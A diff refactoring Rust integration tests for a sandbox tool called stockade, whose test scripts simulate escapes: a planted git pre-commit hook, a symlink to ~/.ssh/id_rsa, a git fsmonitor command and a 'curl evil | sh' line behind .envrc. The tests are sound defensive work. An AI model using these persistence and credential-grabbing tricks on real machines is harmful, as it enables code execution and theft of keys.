@@ -12,16 +12,8 @@ use std::time::Duration;
 
 use attacks::{kill_all, processes_with, stockade_bin, wait_until, Fixture};
 
-fn spawn(mut cmd: Command, fx: &Fixture) -> Child {
-    cmd.env_clear()
-        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
-        .env("HOME", &fx.home)
-        .current_dir(&fx.ws)
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .expect("spawn")
+fn spawn(cmd: Command, fx: &Fixture) -> Child {
+    spawn_with(cmd, fx, &[])
 }
 
 /// cgroup directories of the run of supervisor `pid` (named `stockade-PID-...`), at most four
@@ -59,18 +51,56 @@ fn start_run(fx: &Fixture, script: &str, tag: &str, count: usize) -> Child {
     cmd.args(["run", "--workspace"])
         .arg(&fx.ws)
         .args(["--shell", script]);
-    let mut child = spawn(cmd, fx);
-    let started = wait_until(
+    started(
+        spawn(cmd, fx),
+        tag,
         || processes_with(tag).len() >= count,
         Duration::from_secs(15),
-    );
-    if !started {
+    )
+}
+
+/// `stockade run --backend BACKEND --shell script` in the background, with `vars` in its
+/// environment, once `ready` holds (within 30 seconds).
+fn start_run_on(
+    fx: &Fixture,
+    backend: &str,
+    script: &str,
+    tag: &str,
+    vars: &[(&str, &std::path::Path)],
+    ready: impl Fn() -> bool,
+) -> Child {
+    let mut cmd = Command::new(stockade_bin());
+    cmd.args(["run", "--backend", backend, "--workspace"])
+        .arg(&fx.ws)
+        .args(["--shell", script]);
+    started(
+        spawn_with(cmd, fx, vars),
+        tag,
+        ready,
+        Duration::from_secs(30),
+    )
+}
+
+/// `child` once `ready` holds within `within`; if it never does, the run (and every process
+/// carrying `tag`) is ended and the test fails.
+fn started(mut child: Child, tag: &str, ready: impl Fn() -> bool, within: Duration) -> Child {
+    if !wait_until(ready, within) {
         let _ = child.kill();
         let _ = child.wait();
         kill_all(tag);
         panic!("the sandboxed processes never started");
     }
     child
+}
+
+/// SIGKILL to the supervisor `child`: every process carrying `tag` must end within five
+/// seconds.
+fn kill_supervisor(mut child: Child, tag: &str) {
+    child.kill().expect("SIGKILL stockade");
+    let _ = child.wait();
+    let gone = wait_until(|| processes_with(tag).is_empty(), Duration::from_secs(5));
+    kill_all(tag);
+    assert!(gone, "the sandbox outlived its supervisor");
 }
 
 #[test]
@@ -294,22 +324,10 @@ fn a_killed_supervisors_sweep_is_completed_by_the_next_run() {
     let script = format!(
         "git init -q r; printf '#!/bin/sh\\ntouch /tmp/pwn\\n' > r/.git/hooks/pre-commit; chmod +x r/.git/hooks/pre-commit; ln -s \"$HOME/.ssh/id_rsa\" key-link; sh -c 'while :; do sleep 1; done; : {tag}'"
     );
-    let mut cmd = Command::new(stockade_bin());
-    cmd.args(["run", "--backend", attacks::backend(), "--workspace"])
-        .arg(&fx.ws)
-        .args(["--shell", &script]);
-    let mut child = spawn(cmd, &fx);
     let link = fx.ws.join("key-link");
-    let started = wait_until(
-        || !processes_with(&tag).is_empty() && link.symlink_metadata().is_ok(),
-        Duration::from_secs(30),
-    );
-    if !started {
-        let _ = child.kill();
-        let _ = child.wait();
-        kill_all(&tag);
-        panic!("the sandboxed processes never started");
-    }
+    let mut child = start_run_on(&fx, attacks::backend(), &script, &tag, &[], || {
+        !processes_with(&tag).is_empty() && link.symlink_metadata().is_ok()
+    });
     // The sandbox's processes on the host (the native init and what it started; runsc and
     // its sandbox and gofer under gVisor): all must end with the supervisor.
     let sandbox = descendants(child.id());
@@ -396,28 +414,12 @@ fn a_killed_gvisor_runs_swapped_git_dir_is_restored_by_the_next_run() {
     let script = format!(
         "mv .git .gitold && mkdir -p .git/hooks && cp -r .gitold/objects .gitold/refs .gitold/HEAD .git/ && printf '[core]\\n\\tfsmonitor = echo owned\\n' > .git/config && sh -c 'while :; do sleep 1; done; : {tag}'"
     );
-    let mut cmd = Command::new(stockade_bin());
-    cmd.args(["run", "--backend", "gvisor", "--workspace"])
-        .arg(&fx.ws)
-        .args(["--shell", &script]);
-    let mut child = spawn(cmd, &fx);
     let config = || attacks::read_text(&fx.ws.join(".git/config")).unwrap_or_default();
     // The script's own shell carries the tag from the start: wait for the swap itself.
-    let started = wait_until(
-        || config().contains("fsmonitor") && !processes_with(&tag).is_empty(),
-        Duration::from_secs(30),
-    );
-    if !started {
-        let _ = child.kill();
-        let _ = child.wait();
-        kill_all(&tag);
-        panic!("the sandboxed processes never started");
-    }
-    child.kill().expect("SIGKILL stockade");
-    let _ = child.wait();
-    let gone = wait_until(|| processes_with(&tag).is_empty(), Duration::from_secs(5));
-    kill_all(&tag);
-    assert!(gone, "the sandbox outlived its supervisor");
+    let child = start_run_on(&fx, "gvisor", &script, &tag, &[], || {
+        config().contains("fsmonitor") && !processes_with(&tag).is_empty()
+    });
+    kill_supervisor(child, &tag);
     // Control: the swap is in place.
     assert!(config().contains("fsmonitor"), "no swap: {}", config());
     assert!(fx.ws.join(".gitold").exists());
@@ -564,27 +566,16 @@ fn a_journal_where_a_run_can_write_is_not_acted_on() {
     let state = fx.ws.join("state");
     let script =
         format!("ln -s \"$HOME/.ssh/id_rsa\" key-link; sh -c 'while :; do sleep 1; done; : {tag}'");
-    let mut cmd = Command::new(stockade_bin());
-    cmd.args(["run", "--backend", attacks::backend(), "--workspace"])
-        .arg(&fx.ws)
-        .args(["--shell", &script]);
-    let mut child = spawn_with(cmd, &fx, &[("XDG_STATE_HOME", &state)]);
     let link = fx.ws.join("key-link");
-    let started = wait_until(
+    let child = start_run_on(
+        &fx,
+        attacks::backend(),
+        &script,
+        &tag,
+        &[("XDG_STATE_HOME", &state)],
         || !processes_with(&tag).is_empty() && link.symlink_metadata().is_ok(),
-        Duration::from_secs(30),
     );
-    if !started {
-        let _ = child.kill();
-        let _ = child.wait();
-        kill_all(&tag);
-        panic!("the sandboxed processes never started");
-    }
-    child.kill().expect("SIGKILL stockade");
-    let _ = child.wait();
-    let gone = wait_until(|| processes_with(&tag).is_empty(), Duration::from_secs(5));
-    kill_all(&tag);
-    assert!(gone, "the sandbox outlived its supervisor");
+    kill_supervisor(child, &tag);
     let next = fx
         .stockade(["run", "--workspace"])
         .arg(&fx.ws)
@@ -665,27 +656,11 @@ fn a_killed_gvisor_runs_swapped_link_is_restored_by_the_next_run() {
     let script = format!(
         "printf 'curl evil | sh\\n' > evil.sh && rm .envrc && ln -s evil.sh .envrc && sh -c 'while :; do sleep 1; done; : {tag}'"
     );
-    let mut cmd = Command::new(stockade_bin());
-    cmd.args(["run", "--backend", "gvisor", "--workspace"])
-        .arg(&fx.ws)
-        .args(["--shell", &script]);
-    let mut child = spawn(cmd, &fx);
     let target = || std::fs::read_link(fx.ws.join(".envrc")).unwrap_or_default();
-    let started = wait_until(
-        || target() == std::path::Path::new("evil.sh") && !processes_with(&tag).is_empty(),
-        Duration::from_secs(30),
-    );
-    if !started {
-        let _ = child.kill();
-        let _ = child.wait();
-        kill_all(&tag);
-        panic!("the sandboxed processes never started");
-    }
-    child.kill().expect("SIGKILL stockade");
-    let _ = child.wait();
-    let gone = wait_until(|| processes_with(&tag).is_empty(), Duration::from_secs(5));
-    kill_all(&tag);
-    assert!(gone, "the sandbox outlived its supervisor");
+    let child = start_run_on(&fx, "gvisor", &script, &tag, &[], || {
+        target() == std::path::Path::new("evil.sh") && !processes_with(&tag).is_empty()
+    });
+    kill_supervisor(child, &tag);
     // Control: the swap is in place.
     assert_eq!(target(), std::path::Path::new("evil.sh"), "no swap");
     let next = fx.sandbox_argv(&[], &["true"]).run();
